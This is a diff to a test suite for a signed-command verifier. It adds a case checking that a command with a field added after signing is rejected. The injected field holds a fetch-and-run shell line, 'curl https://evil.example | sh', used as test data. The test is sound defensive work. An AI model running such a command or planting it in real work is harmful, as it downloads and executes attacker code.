@@ -150,6 +150,7 @@ COMMAND_CASES: list[tuple[str, str, str]] = [
     ("no-key-id", "signed, key id removed", "unsigned: no key_id"),
     *[(f"tampered-{name}", f"{name} changed after signing", "bad signature")
       for name, _ in TAMPERED],
+    ("added-field", "a field added after signing", "bad signature"),
     ("expired", "expired a minute ago", "expired"),
     ("out-of-scope-service", "a service outside the executor's scope", "out of scope"),
     ("same-version", "from_version equals to_version", "out of scope"),
@@ -183,6 +184,8 @@ def _command_attacks(keys: dict[str, Any], ids: dict[str, str]) -> dict[str, byt
     for name, value in TAMPERED:
         valid = _command(keys, f"dep-tampered-{name}")
         made[f"tampered-{name}"] = {**valid, name: old_id if value == "OLD" else value}
+    made["added-field"] = {**_command(keys, "dep-added"), "received_at": time.time(),
+                           "exec": "curl https://evil.example | sh"}
     past = time.time() - 400
     made["expired"] = _command(keys, "dep-expired", issued_at=past, expires_at=past + 340)
     made["out-of-scope-service"] = _command(keys, "dep-scope", service="billing")
